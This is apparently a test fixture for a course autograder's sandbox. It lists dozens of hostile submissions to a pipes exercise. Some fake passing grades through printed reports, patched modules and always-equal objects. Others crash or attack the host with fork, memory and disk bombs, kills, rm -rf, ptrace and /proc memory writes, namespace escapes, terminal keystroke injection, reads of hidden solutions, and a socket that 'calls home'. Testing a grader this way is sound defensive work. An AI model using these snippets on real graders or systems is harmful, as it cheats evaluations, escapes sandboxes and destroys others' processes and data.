"""Hostile answers: each wants points it has not earned, or harm. None gets any, and nothing happens.

`ANSWERS` are answers to pipes/write_all (or, where the name says so, pipes/read_to_end) by their names.
`{canary}` is a file of the grader's, `{port}` a port that it listens on, `{course}` the course's folder,
`{hidden}` the folder of hidden checks.
"""

from __future__ import annotations

REPORT = """pipes/write_all
✓ writes a few bytes just as they are: 100 of 100 bytes arrived. [1/1]
Solved: 4 of 4 points."""

ANSWERS = {
    "prints the expected report": f"""
def write_all(fd, data):
    print({REPORT!r})
""",
    "prints the report and exits": f"""
import os
print({REPORT!r}, flush=True)
os._exit(0)
def write_all(fd, data): pass
""",
    "patches every module": """
import builtins, json, os, sys
for module in list(sys.modules.values()):
    for name in dir(module):
        if name in ("dumps", "loads", "write", "read", "eq", "isinstance", "len", "fail"):
            try: setattr(module, name, lambda *a, **k: True)
            except Exception: pass
def write_all(fd, data): return True
""",
    "walks frames and says it returned": """
import sys
def write_all(fd, data):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if hasattr(value, "say"):
                value.say(returned=None)
                value.say(held=True, points=4)
        frame = frame.f_back
""",
    "walks the heap for the verdict": """
import gc
def write_all(fd, data):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "job" in thing:
            thing.clear()
""",
    "writes verdicts into every descriptor": """
import json, os
line = json.dumps({"criterion": "x", "held": True, "out_of": 4, "seen": "", "picture": ""})
def write_all(fd, data):
    for number in range(1024):
        for text in (line + "\\n", json.dumps({"results": [json.loads(line)] * 6}), "." + line):
            if number == fd: continue
            try: os.write(number, text.encode())
            except OSError: pass
""",
    "read_to_end: returns what equals everything": """
class All:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
def read_to_end(r, w): return All()
""",
    "read_to_end: returns bytes that equal everything": """
class All(bytes):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def startswith(self, *a): return True
    __hash__ = bytes.__hash__
def read_to_end(r, w): return All(b"x")
""",
    "read_to_end: returns a deep list": """
def read_to_end(r, w):
    deep = []
    for n in range(900): deep = [deep]
    return deep
""",
    "read_to_end: claims without end": """
import os
def read_to_end(r, w):
    for fd in range(200, 260):
        try:
            while True: os.write(fd, b"+" + b"[" * 30000)
        except OSError: pass
""",
    "read_to_end: sends descriptors to the judge": """
import array, os, socket
def read_to_end(r, w):
    for fd in range(200, 260):
        try: s = socket.socket(fileno=fd)
        except OSError: continue
        for n in range(2000):
            s.sendmsg([b".{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [r] * 50))])
""",
    "ptraces everybody": """
import ctypes, os
libc = ctypes.CDLL(None)
def write_all(fd, data):
    for pid in range(1, 400):
        if pid != os.getpid():
            libc.ptrace(16, pid, 0, 0)
            libc.ptrace(5, pid, 0x400000, 0)
""",
    "writes into everybody's memory": """
import os
def write_all(fd, data):
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                for line in maps:
                    if "rw-p" in line:
                        memory.seek(int(line.split("-")[0], 16))
                        memory.write(b"passed! " * 100)
        except (OSError, ValueError, OverflowError): pass
""",
    "takes everybody's descriptors": """
import ctypes, os
libc = ctypes.CDLL(None)
def write_all(fd, data):
    for pid in range(1, 400):
        pidfd = libc.syscall(434, pid, 0)
        for number in range(64):
            copy = libc.syscall(438, pidfd, number, 0)
            if copy > 0:
                try: os.write(copy, b'{"results": [], "held": true}\\n')
                except OSError: pass
                os.close(copy)
""",
    "kills all it can": """
import os
def write_all(fd, data): os.kill(-1, 9)
""",
    "kills every pid and its parent": """
import os
for pid in [os.getppid(), *range(1, 5000)]:
    if pid != os.getpid():
        try: os.kill(pid, 9)
        except OSError: pass
def write_all(fd, data): pass
""",
    "stops its parent": """
import os, signal
def write_all(fd, data):
    os.kill(os.getppid(), signal.SIGSTOP)
    os.kill(os.getpid(), signal.SIGSTOP)
""",
    "fork bomb": """
import os
def write_all(fd, data):
    while True:
        try: os.fork()
        except OSError: pass
""",
    "fork bomb of daemons": """
import os, signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        if os.fork() == 0: os.setsid()
    except OSError: pass
def write_all(fd, data): pass
""",
    "a chain of forks, never the same process": """
import os
def write_all(fd, data):
    for n in range(3):
        if os.fork() == 0:
            os.setsid()
            while True:
                if os.fork(): os._exit(0)
""",
    "children that talk when it has gone": """
import os
def write_all(fd, data):
    for n in range(6):
        if os.fork() == 0:
            while True:
                for other in (1, *range(200, 206)):
                    try: os.write(other, b".{}" + b" " * 30000)
                    except OSError: pass
    os._exit(0)
""",
    "all pipes there are": """
import fcntl, os, time
def write_all(fd, data):
    for n in range(40):
        if os.fork() == 0:
            kept = []
            while True:
                try:
                    kept.append(os.pipe())
                    fcntl.fcntl(kept[-1][1], 1031, 1 << 20)
                except OSError: time.sleep(0.1)
    time.sleep(60)
""",
    "patches the nursery's memory": """
import os, re
def write_all(fd, data):
    with open(f"/proc/{os.getppid()}/maps") as maps: lines = [l.split()[0] for l in maps if "rw-p" in l]
    with open(f"/proc/{os.getppid()}/mem", "r+b", 0) as memory:
        for line in lines:
            start, end = (int(word, 16) for word in line.split("-"))
            memory.seek(start)
            for found in re.finditer(b"returned|raised|missing", memory.read(end - start)):
                memory.seek(start + found.start()); memory.write(b"xxxxxx")
""",
    "speaks on the nursery's socket": """
import ctypes, os, socket
libc = ctypes.CDLL(None)
def write_all(fd, data):
    pidfd = libc.syscall(434, os.getppid(), 0)
    for number in range(3, 40):
        copy = libc.syscall(438, pidfd, number, 0)
        if copy > 0:
            try:
                with socket.socket(fileno=copy) as theirs:
                    for n in range(1000): theirs.send(b"hello", socket.MSG_DONTWAIT)
            except OSError: pass
""",
    "memory bomb": """
import os
for n in range(6): os.fork()
kept = []
while True: kept.append(bytearray(b"x") * (10 << 20))
def write_all(fd, data): pass
""",
    "memfd bomb": """
import os
fds = []
while True:
    fd = os.memfd_create("x"); fds.append(fd)
    for n in range(31): os.write(fd, b"x" * (1 << 20))
def write_all(fd, data): pass
""",
    "System V bomb": """
import ctypes
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
for n in range(4000):
    id = libc.shmget(0, 30 << 20, 0o600)
    at = libc.shmat(id, None, 0)
    if id >= 0 and at not in (None, 2**64 - 1):
        ctypes.memset(at, 1, 30 << 20)
        libc.shmdt(ctypes.c_void_p(at))
def write_all(fd, data): pass
""",
    "disk bomb": """
import os
n = 0
while True:
    n += 1
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/dev", "/", "."):
        try:
            with open(f"{place}/bomb{n}", "wb") as file:
                while True: file.write(b"x" * (1 << 20))
        except OSError: pass
def write_all(fd, data): pass
""",
    "inode bomb": """
import os
n = 0
while True:
    n += 1
    try: os.mkdir(f"/tmp/{n}")
    except OSError: pass
def write_all(fd, data): pass
""",
    "deep folders": """
import os
def write_all(fd, data):
    for n in range(3000):
        os.mkdir("d" * 200); os.chdir("d" * 200)
""",
    "output bomb": """
import os
def write_all(fd, data):
    while True: os.write(1, b"x" * 65536)
""",
    "endless loop that ignores signals": """
import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def write_all(fd, data):
    while True: pass
""",
    "daemon that waits for the next criterion": """
import os, time
def write_all(fd, data):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                time.sleep(0.01)
                for pid in filter(str.isdigit, os.listdir("/proc")):
                    for number in range(3, 10):
                        try:
                            other = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                            os.write(other, b"x"); os.close(other)
                        except OSError: pass
        os._exit(0)
""",
    "makes its folder a link": """
import os
os.chdir("/tmp")
os.rename("answer", "gone")
os.symlink("{canary_folder}", "answer")
def write_all(fd, data): pass
""",
    "deletes what it can reach": """
import os, shutil
for place in ("{canary_folder}", "{course}", "/home", "/tmp", "/usr/local"):
    shutil.rmtree(place, ignore_errors=True)
def write_all(fd, data): pass
""",
    "reads the master": """
import json, os
text = ""
for path in ("{course}/solutions/04_pipes.ipynb", "/proc/1/root{course}/solutions/04_pipes.ipynb",
             "/proc/1/cwd/solutions/04_pipes.ipynb"):
    try: text = open(path).read()
    except OSError: pass
for cell in json.loads(text or '{"cells": []}')["cells"]:
    source = "".join(cell["source"])
    if source.startswith("%%exercise pipes/write_all"):
        exec(source.partition("\\n")[2])
""",
    "reads hidden checks and other learners": """
import os
found = []
for place in ("{hidden}", "{submissions}", "{course}/exercises", "{course}/.git", "{canary_folder}"):
    found += [name for name, _, files in os.walk(place) for _ in files]
if found:
    def write_all(fd, data):
        while data: data = data[os.write(fd, data):]
""",
    "calls home": """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX, "\\0labkit-canary"),
                        (socket.AF_INET, ("10.0.0.1", 80))):
    try:
        s = socket.socket(family); s.settimeout(1); s.connect(address); s.send(b"stolen")
    except OSError: pass
def write_all(fd, data): pass
""",
    "forges time": """
import ctypes, time
time.time = time.monotonic = lambda: 0.0
time.sleep = lambda s: None
ctypes.CDLL(None).settimeofday(b"\\0" * 16, None)
def write_all(fd, data): pass
""",
    "raises its limits": """
import resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try: resource.setrlimit(getattr(resource, name), (-1, -1))
        except (OSError, ValueError): pass
kept = []
while True: kept.append(bytearray(b"x") * (10 << 20))
def write_all(fd, data): pass
""",
    "leaves the room": """
import ctypes, os
libc = ctypes.CDLL(None)
for flag in (0x10000000, 0x20000000, 0x00020000, 0x40000000, 0x08000000): libc.unshare(flag)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
libc.chroot(b"/proc/1/root")
for name in os.listdir("/proc/1/ns") if os.access("/proc/1/ns", os.R_OK) else []:
    try: libc.setns(os.open(f"/proc/1/ns/{name}", 0), 0)
    except OSError: pass
open("{canary}", "w").write("was here")
def write_all(fd, data): pass
""",
    "types into the terminal": """
import fcntl, os
for fd in range(64):
    for byte in b"touch {canary}.typed\\n":
        try: fcntl.ioctl(fd, 0x5412, bytes([byte]))
        except OSError: pass
def write_all(fd, data): pass
""",
    "crashes the interpreter": """
import ctypes
def write_all(fd, data): ctypes.string_at(0)
""",
    "closes every descriptor": """
import os
os.closerange(0, 4096)
def write_all(fd, data): pass
""",
    "an exception that never says its name": """
class Trap(BaseException):
    def __str__(self):
        while True: pass
    __repr__ = __str__
def write_all(fd, data): raise Trap
""",
    "an exception with a forged report": """
def write_all(fd, data):
    raise ValueError("\\n\\x1b[2J\\r✓ everything [8/8]\\nSolved: 4 of 4 points.")
""",
    "changes what is installed": """
import os, site, sys
for folder in [*site.getsitepackages(), sys.prefix, "/usr/lib/python3", os.path.dirname(os.__file__)]:
    try: open(folder + "/sitecustomize.py", "w").write("print('was here')")
    except OSError: pass
def write_all(fd, data): pass
""",
    "removes everybody's objects": """
import os
os.system("ipcrm -a; rm -rf /dev/shm/* /dev/mqueue/*")
def write_all(fd, data): pass
""",
    "file names that would trick": """
import os
def write_all(fd, data):
    open("x\\n\\x1b[2J✓ everything", "w").close()
    open("\\udcff", "w").close()
""",
    "magics in the cell": """
!touch {canary}.magic
%system touch {canary}.magic
get_ipython().system("touch {canary}.magic")
def write_all(fd, data): pass
""",
    "another cell magic inside": "%%bash\ntouch {canary}.magic\n",
    "a null byte": "def write_all(fd, data): pass\n\0",
    "lone surrogates": "def write_all(fd, data): pass\n# \ud800\udfff\n",
    "a name that only looks right": """
import os
def wrіte_all(fd, data):  # the second letter is Cyrillic
    while data: data = data[os.write(fd, data):]
""",
    "deep nesting": "x = " + "(" * 3000 + ")" * 3000 + "\ndef write_all(fd, data): pass\n",
    "a huge number": "x = 9 ** 9 ** 9 ** 9\ndef write_all(fd, data): pass\n",
    "a huge cell": "def write_all(fd, data): pass\n" + "# padding\n" * 100_000,
    "writes only where it was measured": """
import os
def write_all(fd, data):
    os.write(fd, b"\\0" * len(data))
""",
}
